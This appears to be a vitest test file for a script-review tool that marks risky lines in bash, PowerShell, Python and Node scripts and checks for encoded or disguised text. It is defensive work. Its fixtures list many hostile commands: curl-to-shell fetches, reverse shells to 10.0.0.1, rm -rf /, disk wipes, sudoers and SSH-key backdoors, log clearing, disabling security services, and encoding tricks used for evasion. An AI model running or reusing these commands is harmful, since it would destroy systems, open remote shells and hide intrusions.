/** What deserves a second look in a script is marked, takes nothing away, and is found in time that grows with the script. */
import { encodeUtf8, type Interpreter } from "@countersign/protocol";
import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { newMeter } from "../text/meter.ts";
import { plainText, sourceOf } from "../text/segment.ts";
import { reviewScript } from "./review-script.ts";
import { SHELL_RISKS } from "./shell-risks.ts";
import { WORD_RISKS } from "./word-risks.ts";

const base64 = (text: string) => Buffer.from(text).toString("base64");
const wide = (text: string) => Buffer.from(text, "utf16le").toString("base64");
const hex = (text: string) => Buffer.from(text).toString("hex");
const said = (text: string, interpreter: Interpreter = "bash") =>
  reviewScript(encodeUtf8(text), interpreter, newMeter()).findings.map(({ words }) => words);

const FETCHED = "runs what it fetches from the network";
const DECODED = "decodes text and runs it";
const EVERYTHING = "deletes everything, or nearly";
const GUARDS = "switches off what guards or records on this machine";
const HIDES = "hides what was done";
const LOGIN = "changes who may log in, and as what";
const DISK = "writes to a disk directly";
const STAYS = "stays on the machine when the script has ended";
const BOOT = "changes how the machine starts";
const RIGHTS = "gives a program another user's rights";
const EVAL = "runs text as a script";

const shell: readonly (readonly [script: string, words: string])[] = [
  ["curl -fsSL https://x.example/i.sh | sh", FETCHED],
  ["wget -qO- https://x.example | sudo -u root bash -s --", FETCHED],
  ["curl x.example |\n  tee log |\n  bash", FETCHED],
  ["cu\\\nrl x.example | s\\\nh", FETCHED],
  ["c'u'rl x.example | b\"as\"h", FETCHED],
  ["\\curl x.example | /usr/bin/env python3", FETCHED],
  ['sh -c "$(curl -fsSL x.example)"', FETCHED],
  ["bash <(curl -s x.example)", FETCHED],
  [". <(wget -qO- x.example)", FETCHED],
  ["eval `curl -s x.example`", FETCHED],
  ["if true; then curl x.example | sh; fi", FETCHED],
  ["ssh host 'curl x.example | sh'", FETCHED],
  ["(curl x.example; echo) | bash", FETCHED],
  ["echo don't; curl x.example | sh", FETCHED],
  ["cat <<E\nit's\nE\ncurl x.example | sh", FETCHED],
  ["echo\r#; curl x | sh", FETCHED],
  ["echo $(date)#; curl x | sh", FETCHED],
  ["echo `date`#; curl x | sh", FETCHED],
  ["{#; curl x | sh", FETCHED],
  ["`# an aside` curl x | sh", FETCHED],
  ["sh -c '\n# an aside'; curl x | sh", FETCHED],
  ['echo "\n# an aside"; curl x | sh', FETCHED],
  ["perl -e 'print 1'", "runs a program that stands in quotes"],
  ["echo ZWNobyBoaQ== | base64 -d | sh", DECODED],
  ["eval $(echo 6563686f | xxd -r -p)", DECODED],
  ["openssl enc -d -base64 -in x | bash", DECODED],
  ["cat part1 part2 | sh", "runs text that another command writes"],
  ['eval "$CMD"', EVAL],
  ["rm -rf /", EVERYTHING],
  ["rm -r -f --no-preserve-root /x", EVERYTHING],
  ["sudo rm -fr /*", EVERYTHING],
  ["rm -rf $PREFIX/", EVERYTHING],
  ["cd /tmp && rm -Rf ~", EVERYTHING],
  ["find / -name '*.log' -exec rm -rf {} \\;", "deletes folders with all that is in them"],
  ["dd if=/dev/zero of=/dev/sda bs=1M", DISK],
  ["mkfs.ext4 /dev/sdb1", DISK],
  ["echo x > /dev/nvme0n1", DISK],
  ["cat img >/dev/sda", DISK],
  ["grub-install /dev/sda", BOOT],
  ["cp kernel /boot/vmlinuz", BOOT],
  ["sed -i s/a/b/ /etc/fstab", BOOT],
  ["useradd -m eve", LOGIN],
  ["echo 'eve ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", LOGIN],
  ["cat key >> ~/.ssh/authorized_keys", LOGIN],
  ["echo root:x | chpasswd", LOGIN],
  ["chmod u+s /bin/bash", RIGHTS],
  ["chmod 4755 /tmp/x", RIGHTS],
  ["setcap cap_setuid+ep /tmp/x", RIGHTS],
  ["chmod +x ./payload", "makes a file executable"],
  ["chmod 777 /etc", "lets everybody write"],
  ["systemctl stop auditd", GUARDS],
  ["systemctl disable --now rsyslog.service", GUARDS],
  ["service fail2ban stop", GUARDS],
  ["ufw disable", GUARDS],
  ["iptables -F", GUARDS],
  ["setenforce 0", GUARDS],
  ["systemctl mask countersign-agent", GUARDS],
  ["history -c", HIDES],
  ["unset HISTFILE", HIDES],
  ["rm -f ~/.bash_history", HIDES],
  ["> /var/log/auth.log", HIDES],
  ["journalctl --vacuum-time=1s", HIDES],
  ["(crontab -l; echo '* * * * * x') | crontab -", STAYS],
  ["systemctl enable backdoor", STAYS],
  ["echo x >> ~/.bashrc", STAYS],
  ["echo /x.so > /etc/ld.so.preload", STAYS],
  ["insmod ./x.ko", "changes the running kernel"],
  ["shutdown -h now", "stops or restarts the machine"],
  ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "opens a connection that can carry a shell"],
  ["nc -e /bin/sh 10.0.0.1 4444", "opens a connection that can carry a shell"],
  ["docker run --privileged -v /:/host x", "steps out of its surroundings into the whole machine"],
  ["export LD_PRELOAD=/tmp/x.so", "changes which code programs load"],
  ["rm -r /var/lib/countersign-agent", "changes what guards this machine"],
  ["$'\\x63url' x", "puts words together so that they cannot be searched for"],
  ["shred -u secrets.txt", "overwrites files so that they cannot be restored"],
  ["kill -9 -1", "ends processes of others"],
  ["cat${IFS}/etc/hosts", "puts words together so that they cannot be searched for"],
  [":(){ :|:& };:", "starts copies of itself without end"],
];

const others: readonly (readonly [interpreter: Interpreter, script: string, words: string])[] = [
  ["pwsh", `powershell -EncodedCommand ${wide("Remove-Item C:\\ -Recurse")}`, "runs an encoded command"],
  ["pwsh", `powershell -e ${wide("Write-Host hi there")}`, "runs an encoded command"],
  ["pwsh", "IEX (New-Object Net.WebClient).DownloadString('http://x')", EVAL],
  ["pwsh", "Set-MpPreference -DisableRealtimeMonitoring $true", GUARDS],
  ["pwsh", "Add-LocalGroupMember -Group Administrators -Member eve", LOGIN],
  ["pwsh", "Set-ExecutionPolicy Bypass -Force", "lets scripts run that this machine would not"],
  ["pwsh", "[System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x))", "decodes text"],
  ["pwsh", "vssadmin delete shadows /all", "writes to a disk directly, or throws its contents away"],
  ["pwsh", "Remove-Item C:\\Data -Recurse -Force", "deletes folders with all that is in them"],
  ["python3", "exec(base64.b64decode(x))", EVAL],
  ["python3", "os.system('curl x.example | sh')", FETCHED],
  ["python3", "subprocess.run(['sh', '-c', 'rm -rf /'])", EVERYTHING],
  ["python3", "__import__('os').system('id')", EVAL],
  ["python3", "exec(marshal.loads(x))", "loads a program from data"],
  ["node", "eval(Buffer.from(x, 'base64').toString())", EVAL],
  ["node", "require('child_process').execSync('wget -qO- x | sh')", FETCHED],
];

describe("is marked:", () => {
  test.each(shell)("%s", (script, words) => {
    expect(said(`#!/bin/bash\n${script}\n`)).toContain(words);
  });
  test.each(others)("%s: %s", (interpreter, script, words) => {
    expect(said(`${script}\n`, interpreter)).toContain(words);
  });
});

test.each([
  "set -eu\ncd /srv/app\ngit log -1\necho done\n",
  "# curl x | sh would be wrong here\nrm -f /tmp/lock\nsystemctl restart nginx\n",
  'for f in *.log; do gzip "$f"; done\nchmod 644 a.conf\napt-get update\n',
  "if [ -f /srv/a ]; then echo 'it is there'; fi\ndf -h | sort | head -3\n",
])("an honest script has nothing marked: %j", (script) => {
  expect(said(script)).toEqual([]);
});

test("no rule is without a script that it marks", () => {
  const marked = new Set([
    ...shell.flatMap(([script]) => said(script)),
    ...others.flatMap(([by, script]) => said(script, by)),
  ]);
  expect([...SHELL_RISKS, ...WORD_RISKS].filter((words) => !marked.has(words))).toEqual([]);
});

describe("a text that its interpreter reads otherwise than it stands here is told of:", () => {
  // Each of these prints `ran`, by a comment.
  test.each<[what: string, interpreter: Interpreter, script: string, words: RegExp]>([
    [
      "UTF-7",
      "python3",
      "#!/usr/bin/python3\n# -*- coding: utf-7 -*-\n# tidy +AAo-print('ran')\n",
      /as utf-7:/,
    ],
    [
      "escapes",
      "python3",
      "# vim: set fileencoding=raw_unicode_escape :\n# \\u000aprint('ran')\n",
      /as raw_uni/,
    ],
    [
      "behind a lone carriage return",
      "python3",
      "#\r#coding=unicode_escape\n# \\x0aprint('ran')\n",
      /as unicode/,
    ],
    ["behind a byte order mark", "python3", "\ufeff# coding: latin-1\nprint('ran')\n", /as latin-1:/],
    ["a comment of web pages", "node", "let x = 1\nx = 2 <!-- x\n", /begins a comment for Node/],
    ["the end of one", "node", "let x = 1\n --> x = 2\n", /begins a comment for Node/],
    ["a letter as an escape", "node", "\\u0065val('x')\n", /cannot be searched for/],
    ["a letter as the other escape", "node", "globalThis.\\u{65}val('x')\n", /cannot be searched for/],
  ])("%s", (_what, interpreter, script, words) => {
    const found = said(script, interpreter);
    expect(found.filter((one) => words.test(one))).not.toEqual([]);
  });

  test.each<[interpreter: Interpreter, script: string]>([
    ["python3", "#!/usr/bin/env python3\n# -*- coding: utf-8 -*-\nprint('größe')\n"],
    ["python3", "# coding=UTF_8\nprint(1)\n"],
    ["python3", "import sys\n\n# coding: utf-7 is nothing here\n"],
    ["bash", "# coding: utf-7\necho '<!-- page -->'\n"],
    ["node", "const page = `</p>`; // a -> b --> c\nconsole.log('\\u001b[31m', page)\n"],
  ])("and %s that reads it as it stands is not: %j", (interpreter, script) => {
    expect(said(script, interpreter)).toEqual([]);
  });
});

describe("encoded text", () => {
  test.each<[what: string, script: string, encoding: string]>([
    ["base64", `x=${base64("curl x.example | sh")}`, "base64"],
    [
      "base64 over lines",
      `base64 -d <<E | sh\n${base64("echo one; curl x.example | sh; echo and more of the same").replaceAll(/(.{40})/g, "$1\n")}\nE`,
      "base64",
    ],
    ["UTF-16", `powershell -enc ${wide("curl x.example | sh")}`, "base64 of UTF-16"],
    ["hexadecimal", `echo ${hex("curl x.example | sh")} | xxd -r -p`, "hexadecimal"],
    [
      "escapes",
      `printf '${[...Buffer.from("curl x.example | sh")].map((byte) => `\\x${byte.toString(16)}`).join("")}'`,
      "escapes",
    ],
    ["text in text", `x=${base64(`y=${base64("curl x.example | sh")}`)}`, "base64"],
  ])("as %s is decoded, shown and looked at", (_what, script, encoding) => {
    const { decoded, findings } = reviewScript(encodeUtf8(script), "bash", newMeter());
    const text = decoded
      .flatMap(({ lines = [] }) => lines.map((line) => plainText(line.segments)))
      .join("\n");
    expect(text).toContain("curl x.example | sh");
    expect(decoded.map((found) => found.encoding)).toContain(encoding);
    expect(findings.map(({ words }) => words)).toContain(`encoded: ${FETCHED}`);
  });

  test("that is compressed is said to be, and hashes and names are not taken for text", () => {
    const gzip = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10]).toString(
      "base64",
    );
    expect(reviewScript(encodeUtf8(`x=${gzip}\n`), "sh", newMeter()).decoded).toEqual([
      { line: 1, encoding: "base64" },
    ]);
    const honest = `sha256sum -c <<E\n9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\nE\n/usr/lib/x86_64-linux-gnu/libsomethingratherlong\n`;
    expect(reviewScript(encodeUtf8(honest), "sh", newMeter()).decoded).toEqual([]);
  });
});

test("a program is shown in hexadecimal digits, every byte of it, and said to be unreadable", () => {
  const bytes = Uint8Array.from({ length: 1000 }, (_none, at) => (at * 7) % 256);
  const { encoding, lines, findings } = reviewScript(bytes, "sh", newMeter());
  expect(encoding).toBe("binary");
  expect(lines.flatMap(({ segments }) => segments.map((segment) => segment.bytes)).join("")).toBe(
    Buffer.from(bytes).toString("hex"),
  );
  expect(findings[0]?.words).toContain("not a text");
});

test("a text with a few odd bytes stays a text, and the bytes are shown", () => {
  const bytes = Buffer.concat([
    encodeUtf8("#!/bin/sh\necho caf"),
    Buffer.from([0xe9]),
    encodeUtf8(" and so on\n"),
  ]);
  const { encoding, lines } = reviewScript(bytes, "sh", newMeter());
  expect(encoding).toBe("text");
  expect(plainText(lines[1]?.segments ?? [])).toBe("echo caf‹byte E9› and so on");
});

test("marks take nothing away, whatever the script", () => {
  const word = fc.constantFrom(
    ..."curl sh | ; & ( ) ` $( ' \" \\ \n # eval rm -rf / > >> <( \u202e \u0430 base64 -d { } ZWNobyBoaSB0aGVyZQ==".split(
      " ",
    ),
    "\n",
    " ",
    "\\\n",
  );
  fc.assert(
    fc.property(
      fc.array(word, { maxLength: 40 }),
      fc.constantFrom<Interpreter>("sh", "pwsh", "python3"),
      (words, by) => {
        const text = words.join("");
        const { lines } = reviewScript(encodeUtf8(text), by, newMeter());
        if (text !== "") expect(lines.map(({ segments }) => sourceOf(segments)).join("\n")).toBe(text);
      },
    ),
    { numRuns: 2000 },
  );
});

describe("a script of 256 KiB takes steps by its length, and not by its square:", () => {
  const size = 256 * 1024;
  test.each<[what: string, unit: string]>([
    ["plain lines", "echo a line like any other\n"],
    ["one line", "x"],
    ["blanks", " "],
    ["empty lines", "\n"],
    ["quotes that never close", "'"],
    ["double quotes", '"a '],
    ["escaped quotes", '\\"'],
    ["quotes in quotes", `"'"'`],
    ["parentheses that never close", "("],
    ["commands in commands", "$("],
    ["backticks", "`a "],
    ["pipes", "|sh"],
    ["shells fed by shells", "curl x|sh|"],
    ["continued lines", "a \\\n"],
    ["hidden characters", "\u200b"],
    ["hidden characters in turn", "\u200b\u202e"],
    ["look-alikes", "\u0430a "],
    ["right to left", "\u05d0 "],
    ["carriage returns", "\r"],
    ["base64", "ZWNobyBoaSB0aGVyZSB5b3Ug"],
    ["base64 lines", "ZWNobyBoaSB0aGVyZSB5b3Ug\n"],
    ["escapes", "\\x41"],
    ["words that are looked for", "Remove-Item "],
    ["names that are looked for", "rm -rf / "],
  ])("%s", (_what, unit) => {
    const steps = (length: number) => {
      const meter = newMeter();
      const text = unit.repeat(Math.ceil(length / encodeUtf8(unit).length));
      reviewScript(encodeUtf8(text), "bash", meter);
      return meter.steps;
    };
    const [quarter, whole] = [steps(size / 4), steps(size)];
    expect(whole / quarter).toBeLessThan(6);
    expect(whole).toBeLessThan(size * 60);
  });
});
